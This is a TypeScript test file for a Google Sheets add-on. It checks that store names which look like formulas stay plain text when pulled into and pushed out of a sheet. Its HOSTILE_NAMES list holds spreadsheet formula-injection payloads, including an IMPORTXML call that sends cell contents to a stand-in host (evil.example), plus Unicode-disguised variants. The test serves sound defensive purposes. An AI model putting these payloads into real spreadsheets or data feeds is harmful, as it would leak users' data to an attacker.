// Text a sheet would evaluate, pulled and pushed back on stubbed Apps Script services: through the
// modules as tests import them, and through the built bundle as Apps Script runs it, since the rule
// lives in src/lib (shared with the CSV reports) and reaches Code.js only through the bundler.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createContext, runInContext } from 'node:vm'
import { afterEach, describe, expect, it } from 'vitest'
// @ts-expect-error plain ES module without types
import { buildAddon } from '../build.mjs'
import * as modules from '../src/main'
import { appsScript, installGlobals, type AppsScript, type FakeSheet } from './apps-script-stubs'
import { BASE_URL, fakeWorker, storeRow, TOKEN } from './fake-worker'

const STORE_TAB = '门店目标 Store targets'

/** Store names as a hostile master-data upload could set them: every way to open a formula. */
const HOSTILE_NAMES = [
  '+IMPORTXML("http://evil.example/?"&A1,"//a")',
  '-2+3',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example","点我")',
  ' =1+1',
  '\u3000+1',
  '\u200B=1',
  '\u202E-1',
  '＝1+1',
  '＠x',
]

type Addon = Pick<typeof modules, 'saveSettings' | 'setupTabs' | 'pullActiveTab' | 'pushActiveTab'>

let cleanups: (() => void)[] = []
afterEach(() => {
  cleanups.forEach((cleanup) => cleanup())
  cleanups = []
})

const keyOf = (sheet: FakeSheet, key: string) => (sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0] as string[]).indexOf(key) + 1
const dataArea = (sheet: FakeSheet) => sheet.getRange(3, 1, sheet.getLastRow() - 2, sheet.getLastColumn())

/**
 * Sets up the store tab, pulls hostile names (one on a row with nothing editable, so a push leaves
 * it to be written back as it was) and pushes; returns the sheet after each step.
 */
function pullAndPush(addon: Addon, gas: AppsScript, worker: ReturnType<typeof fakeWorker>) {
  expect(addon.saveSettings(BASE_URL, TOKEN).ok).toBe(true)
  expect(addon.setupTabs().ok).toBe(true)
  const sheet = gas.spreadsheet.getSheetByName(STORE_TAB)!
  gas.spreadsheet.setActiveSheet(sheet)
  const name = keyOf(sheet, 'name')
  // Pasting from another sheet brings its formats: the name column is no longer plain text.
  sheet.getRange(3, name, sheet.getMaxRows() - 2, 1).setNumberFormat('0.###############')
  const kept = HOSTILE_NAMES[0]!
  worker.state.rows = [...HOSTILE_NAMES.map((text, i) => storeRow(`EA00${i}`, text, Array(12).fill(10 * i))), [null, kept, ...Array(16).fill(null)]]

  expect(addon.pullActiveTab()).toMatchObject({ ok: true })
  const pulled = { formulas: dataArea(sheet).getFormulas().flat(), names: sheet.getRange(3, name, worker.state.rows.length, 1).getValues().flat() }
  expect(addon.pushActiveTab()).toMatchObject({ ok: true })
  expect(worker.state.syncs.at(-1)!.rows).toHaveLength(HOSTILE_NAMES.length)
  const pushed = { formulas: dataArea(sheet).getFormulas().flat(), keptName: sheet.getRange(3 + HOSTILE_NAMES.length, name).getValue() }
  return { pulled, pushed, kept }
}

function expectTextOnly(result: ReturnType<typeof pullAndPush>) {
  // A person reads the names as they were sent; the sheet evaluates none of them.
  expect(result.pulled.formulas.filter(Boolean)).toEqual([])
  expect(result.pulled.names).toEqual([...HOSTILE_NAMES, result.kept])
  expect(result.pushed.formulas.filter(Boolean)).toEqual([])
  expect(result.pushed.keptName).toBe(result.kept)
}

describe('text that looks like a formula', () => {
  it('stays text through a pull and a push (the add-on’s modules)', () => {
    const worker = fakeWorker()
    const gas = appsScript({ fetch: worker.handler, files: { sidebar: '<p>sidebar</p>' } })
    cleanups.push(installGlobals(gas))
    expectTextOnly(pullAndPush(modules, gas, worker))
  })

  it('stays text through a pull and a push (the built Code.js, as Apps Script runs it)', async () => {
    const dist = mkdtempSync(join(tmpdir(), 'regionops-addon-formula-'))
    cleanups.push(() => rmSync(dist, { recursive: true, force: true }))
    await buildAddon({ outdir: dist })
    const worker = fakeWorker()
    const gas = appsScript({ fetch: worker.handler, files: { sidebar: '<p>sidebar</p>' } })
    const context = createContext({ ...gas.globals, console })
    runInContext(readFileSync(join(dist, 'Code.js'), 'utf8'), context, { filename: 'Code.js' })
    expectTextOnly(pullAndPush(context as unknown as Addon, gas, worker))
  })
})
